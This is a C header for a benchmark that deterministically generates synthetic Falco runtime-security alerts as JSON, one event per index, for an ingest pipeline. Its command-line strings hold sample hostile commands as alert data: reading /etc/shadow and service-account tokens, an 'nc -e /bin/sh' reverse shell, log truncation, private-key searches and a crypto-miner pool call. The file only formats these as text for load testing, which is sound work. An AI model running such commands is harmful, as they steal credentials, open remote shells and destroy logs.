/* The synthetic Falco events of bench/ingest.sh, shared by ingest_client.c
 * (which sends them over HTTP) and ingest_raw.c (which parses the very same
 * bodies and inserts their rows straight into SQLite), so both write the
 * same rows.
 *
 * Event i is a pure function of (i, t0_ms): the same index gives the same
 * bytes whichever program or thread builds it. The mix, per event:
 *   - one of 50 pods (10 per namespace, 5 namespaces), each with its own
 *     container id, deployment image and node (6 nodes);
 *   - one of 8 common Falco rules (shell, sensitive file read, package
 *     manager, outbound connection, symlink over a sensitive file, ...), with the
 *     priority, tags and output text those rules have;
 *   - a ~100-byte command line with per-event arguments, a distinct pid;
 *   - every 20th event executes a binary from the container's upper layer
 *     (Falco's "Drop and execute new binary in container"): the parser adds
 *     a second "Binary drift detected" alert for it;
 *   - outbound-connection events name a public address from the
 *     namespace's own pool of 8 (an IP entity);
 *   - time t0 + i ms, with a nanosecond part, so every event (and its
 *     idempotency key) is distinct.
 * Header-only on purpose: each C file in bench/ becomes its own executable. */
#ifndef STK_BENCH_INGEST_GEN_H
#define STK_BENCH_INGEST_GEN_H

#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define GEN_NAMESPACES 5
#define GEN_PODS_PER_NS 10
#define GEN_NODES 6
#define GEN_DRIFT_EVERY 20

static const char *const gen_ns[GEN_NAMESPACES] = {"payments", "checkout", "catalog", "identity",
                                                   "batch-jobs"};
/* Two deployments per namespace, five replicas each. */
static const char *const gen_deploy[GEN_NAMESPACES][2] = {
    {"payments-api", "ledger-worker"},   {"checkout-web", "cart-service"},
    {"catalog-search", "catalog-sync"},  {"auth-gateway", "token-service"},
    {"nightly-export", "report-runner"},
};
static const char *const gen_image[GEN_NAMESPACES][2] = {
    {"registry.example.com/payments/api", "registry.example.com/payments/ledger"},
    {"registry.example.com/shop/checkout-web", "docker.io/library/redis"},
    {"registry.example.com/shop/catalog-search", "ghcr.io/acme/catalog-sync"},
    {"registry.example.com/iam/gateway", "quay.io/keycloak/keycloak"},
    {"docker.io/library/python", "registry.example.com/data/report-runner"},
};
static const char *const gen_tag[GEN_NAMESPACES][2] = {
    {"1.42.3", "2.7.0"},  {"5.1.8", "7.2.4"},     {"0.19.2", "3.3.1"},
    {"4.0.11", "24.0.5"}, {"3.12-slim", "1.8.0"},
};

static uint64_t gen_mix(uint64_t x)
{
    x += 0x9E3779B97F4A7C15ull;
    x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9ull;
    x = (x ^ (x >> 27)) * 0x94D049BB133111EBull;
    return x ^ (x >> 31);
}

/* "2026-11-22T10:00:00.123456789Z" for t ms + `ns_extra` ns. */
static void gen_time(char *out, size_t n, long long ms, unsigned ns_extra)
{
    time_t s = (time_t)(ms / 1000);
    struct tm tm;
    gmtime_r(&s, &tm);
    char day[32];
    strftime(day, sizeof(day), "%Y-%m-%dT%H:%M:%S", &tm);
    snprintf(out, n, "%s.%03lld%06uZ", day, ms % 1000, ns_extra % 1000000u);
}

struct gen_buf {
    char *p;
    size_t len, cap;
};

static void gen_put(struct gen_buf *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void gen_put(struct gen_buf *b, const char *fmt, ...)
{
    for (;;) {
        va_list ap;
        va_start(ap, fmt);
        int n = vsnprintf(b->p + b->len, b->cap - b->len, fmt, ap);
        va_end(ap);
        if (n < 0) {
            abort();
        }
        if ((size_t)n < b->cap - b->len) {
            b->len += (size_t)n;
            return;
        }
        b->cap = (b->cap + (size_t)n) * 2;
        b->p = realloc(b->p, b->cap);
        if (b->p == NULL) {
            abort();
        }
    }
}

/* Appends event `i` as one JSON object (no trailing separator). Returns 1
 * when it is a drift event (two alerts). */
static int gen_event(struct gen_buf *b, long long i, long long t0_ms)
{
    uint64_t r = gen_mix((uint64_t)i);
    int pod_ix = (int)(r % (GEN_NAMESPACES * GEN_PODS_PER_NS));
    int ns = pod_ix / GEN_PODS_PER_NS, replica = pod_ix % GEN_PODS_PER_NS;
    int dep = replica / 5;
    uint64_t pod_h = gen_mix(0x5eed0000ull + (uint64_t)pod_ix);
    char pod[96], cid[16], node[64], ts[48];
    snprintf(pod, sizeof(pod), "%s-%06llx%02x-%05llx", gen_deploy[ns][dep],
             (unsigned long long)(pod_h & 0xffffff), (unsigned)(pod_h >> 24) & 0xff,
             (unsigned long long)(pod_h >> 32) & 0xfffff);
    snprintf(cid, sizeof(cid), "%012llx", (unsigned long long)(pod_h >> 16) & 0xffffffffffffull);
    int node_ix = (int)((pod_h >> 40) % GEN_NODES);
    snprintf(node, sizeof(node), "ip-10-0-%d-%d.eu-west-1.compute.internal", 16 + node_ix,
             40 + 7 * node_ix);
    long long ms = t0_ms + i;
    unsigned ns_part = (unsigned)(r >> 20) % 1000000u;
    gen_time(ts, sizeof(ts), ms, ns_part);
    long long ns_epoch = ms * 1000000LL + ns_part;
    const char *image = gen_image[ns][dep], *tag = gen_tag[ns][dep];
    long long pid = 1000 + (long long)((r >> 8) % 4000000), ppid = 1 + (long long)((r >> 3) % 999);
    unsigned arg = (unsigned)(r >> 33);
    int drift = i % GEN_DRIFT_EVERY == 7;
    int rule = drift ? 8 : (int)((r >> 45) % 8);

    const char *name = NULL, *prio = NULL, *tags = NULL, *exe = NULL, *pname = "containerd-shim";
    const char *evt_type = "execve", *user = "root";
    char cmd[192], extra[256] = "", text[256];
    switch (rule) {
    case 0:
        name = "Terminal shell in container";
        prio = "Notice";
        tags = "[\"T1059\",\"container\",\"maturity_stable\",\"mitre_execution\",\"shell\"]";
        exe = "/bin/bash";
        snprintf(cmd, sizeof(cmd),
                 "bash -c cd /srv/app && ./manage.py shell --settings=prod.settings "
                 "--command='print(%u)' --verbosity 2 --no-color",
                 arg);
        snprintf(text, sizeof(text),
                 "A shell was spawned in a container with an attached "
                 "terminal");
        break;
    case 1:
        name = "Read sensitive file untrusted";
        prio = "Warning";
        tags = "[\"T1555\",\"container\",\"filesystem\",\"maturity_stable\","
               "\"mitre_credential_access\"]";
        exe = "/usr/bin/cat";
        snprintf(cmd, sizeof(cmd),
                 "cat /etc/shadow /etc/gshadow /root/.ssh/id_ed25519 /var/run/secrets/"
                 "kubernetes.io/serviceaccount/token.%u",
                 arg);
        snprintf(extra, sizeof(extra), ",\"fd.name\":\"/etc/shadow\",\"fd.directory\":\"/etc\"");
        evt_type = "openat";
        snprintf(text, sizeof(text), "Sensitive file opened for reading by non-trusted program");
        break;
    case 2:
        name = "Launch Package Management Process in Container";
        prio = "Error";
        tags = "[\"T1072\",\"container\",\"maturity_incubating\",\"mitre_execution\","
               "\"process\",\"software_mgmt\"]";
        exe = "/usr/bin/apt-get";
        snprintf(cmd, sizeof(cmd),
                 "apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u%u "
                 "netcat-openbsd iputils-ping dnsutils",
                 arg % 97);
        snprintf(text, sizeof(text), "Package management process launched in container");
        pname = "bash";
        break;
    case 3: {
        name = "Unexpected outbound connection destination";
        prio = "Notice";
        tags = "[\"T1071\",\"container\",\"maturity_sandbox\",\"mitre_command_and_control\","
               "\"network\"]";
        exe = "/usr/bin/curl";
        int ip_last = 10 + (int)(arg % 8);
        snprintf(cmd, sizeof(cmd),
                 "curl -sS -m 10 -H 'User-Agent: healthcheck/%u' https://52.%d.113.%d/"
                 "v1/metrics/push?job=%s",
                 arg, 80 + ns, ip_last, gen_deploy[ns][dep]);
        snprintf(extra, sizeof(extra),
                 ",\"fd.name\":\"10.42.%d.%d:%u->52.%d.113.%d:443\",\"fd.rip\":\"52.%d.113.%d\","
                 "\"fd.lip\":\"10.42.%d.%d\",\"fd.sport\":443,\"fd.cport\":%u",
                 ns, 10 + replica, 30000 + arg % 30000, 80 + ns, ip_last, 80 + ns, ip_last, ns,
                 10 + replica, 30000 + arg % 30000);
        evt_type = "connect";
        snprintf(text, sizeof(text), "Outbound connection to an unexpected destination");
        break;
    }
    case 4:
        /* Not "Contact K8S API Server From Container": the API server's
         * service address would be an IP entity shared by every namespace,
         * and would merge all incidents into one. */
        name = "Create Symlink Over Sensitive Files";
        prio = "Warning";
        tags = "[\"T1555\",\"container\",\"filesystem\",\"host\",\"maturity_stable\","
               "\"mitre_credential_access\"]";
        exe = "/usr/bin/ln";
        snprintf(cmd, sizeof(cmd),
                 "ln -sf /etc/shadow /srv/app/static/uploads/avatar-%u.png --verbose "
                 "--no-target-directory --backup=numbered",
                 arg);
        snprintf(extra, sizeof(extra),
                 ",\"evt.arg.target\":\"/etc/shadow\",\"evt.arg.linkpath\":"
                 "\"/srv/app/static/uploads/avatar-%u.png\"",
                 arg);
        evt_type = "symlinkat";
        snprintf(text, sizeof(text), "Symlinks created over sensitive files");
        break;
    case 5:
        name = "Clear Log Activities";
        prio = "Warning";
        tags = "[\"NIST_800-53_AU-10\",\"T1070\",\"container\",\"filesystem\","
               "\"maturity_stable\",\"mitre_defense_evasion\"]";
        exe = "/usr/bin/truncate";
        snprintf(cmd, sizeof(cmd),
                 "truncate -s 0 /var/log/app/access.log /var/log/app/error.log "
                 "/var/log/app/audit-%u.log",
                 arg);
        snprintf(extra, sizeof(extra),
                 ",\"fd.name\":\"/var/log/app/access.log\",\"fd.directory\":\"/var/log/app\"");
        evt_type = "openat";
        snprintf(text, sizeof(text), "Log files were tampered");
        break;
    case 6:
        name = "Search Private Keys or Passwords";
        prio = "Warning";
        tags = "[\"T1552.001\",\"container\",\"filesystem\",\"host\",\"maturity_stable\","
               "\"mitre_credential_access\",\"process\"]";
        exe = "/usr/bin/find";
        snprintf(cmd, sizeof(cmd),
                 "find / -xdev -name id_rsa -o -name '*.pem' -o -name '.env' -newer "
                 "/tmp/marker-%u -print",
                 arg);
        snprintf(text, sizeof(text), "Grep private keys or passwords activities found");
        pname = "sh";
        break;
    case 7:
        name = "Netcat Remote Code Execution in Container";
        prio = "Warning";
        tags = "[\"T1059\",\"container\",\"maturity_stable\",\"mitre_execution\",\"network\","
               "\"process\"]";
        exe = "/usr/bin/nc";
        snprintf(cmd, sizeof(cmd),
                 "nc -e /bin/sh 10.42.%d.%d %u -w 30 -v -n -q 1 # reverse shell attempt "
                 "from job",
                 ns, 200 + (int)(arg % 50), 4000 + arg % 1000);
        snprintf(text, sizeof(text),
                 "Netcat runs inside container that allows remote code "
                 "execution");
        pname = "sh";
        break;
    default:
        name = "Drop and execute new binary in container";
        prio = "Critical";
        tags = "[\"PCI_DSS_11.5.1\",\"TA0003\",\"container\",\"maturity_stable\","
               "\"mitre_persistence\",\"process\"]";
        exe = "/tmp/.cache/kworkerd";
        snprintf(cmd, sizeof(cmd),
                 "kworkerd --config /tmp/.cache/c.json --pool stratum+tcp://198.51.100.%u:3333 "
                 "--threads 2",
                 arg % 250);
        snprintf(extra, sizeof(extra),
                 ",\"evt.arg.flags\":\"EXE_WRITABLE|EXE_UPPER_LAYER\","
                 "\"proc.is_exe_upper_layer\":true");
        snprintf(text, sizeof(text), "Executing binary not part of base image");
        pname = "sh";
        break;
    }
    const char *proc = strrchr(exe, '/') + 1;
    /* The command line goes into the JSON twice (output and output_fields);
     * it holds no characters that need escaping except the quotes below. */
    char cmd_json[256];
    size_t j = 0;
    for (size_t k = 0; cmd[k] != '\0' && j + 2 < sizeof(cmd_json); k++) {
        if (cmd[k] == '"' || cmd[k] == '\\') {
            cmd_json[j++] = '\\';
        }
        cmd_json[j++] = cmd[k];
    }
    cmd_json[j] = '\0';
    gen_put(b,
            "{\"hostname\":\"%s\",\"output\":\"%s: %s %s | evt_type=%s user=%s process=%s "
            "proc_exepath=%s parent=%s command=%s container_id=%s container_name=%s "
            "container_image_repository=%s container_image_tag=%s k8s_pod_name=%s "
            "k8s_ns_name=%s\",\"output_fields\":{\"container.id\":\"%s\","
            "\"container.image.repository\":\"%s\",\"container.image.tag\":\"%s\","
            "\"container.name\":\"%s\",\"evt.time\":%lld,\"evt.type\":\"%s\","
            "\"k8s.ns.name\":\"%s\",\"k8s.pod.name\":\"%s\",\"proc.cmdline\":\"%s\","
            "\"proc.exepath\":\"%s\",\"proc.name\":\"%s\",\"proc.pid\":%lld,"
            "\"proc.pname\":\"%s\",\"proc.ppid\":%lld,\"user.name\":\"%s\",\"user.uid\":0%s},"
            "\"priority\":\"%s\",\"rule\":\"%s\",\"source\":\"syscall\",\"tags\":%s,"
            "\"time\":\"%s\"}",
            node, ts, prio, text, evt_type, user, proc, exe, pname, cmd_json, cid,
            gen_deploy[ns][dep], image, tag, pod, gen_ns[ns], cid, image, tag, gen_deploy[ns][dep],
            ns_epoch, evt_type, gen_ns[ns], pod, cmd_json, exe, proc, pid, pname, ppid, user, extra,
            prio, name, tags, ts);
    return drift;
}

/* Batch `k` of `per` events: events k*per .. k*per+per-1, as a JSON array.
 * Adds the number of alerts it yields to *alerts. */
static void gen_batch(struct gen_buf *b, long long k, int per, long long t0_ms, long long *alerts)
{
    gen_put(b, "[");
    for (int e = 0; e < per; e++) {
        if (e > 0) {
            gen_put(b, ",\n");
        }
        *alerts += 1 + gen_event(b, k * per + e, t0_ms);
    }
    gen_put(b, "]");
}

#endif
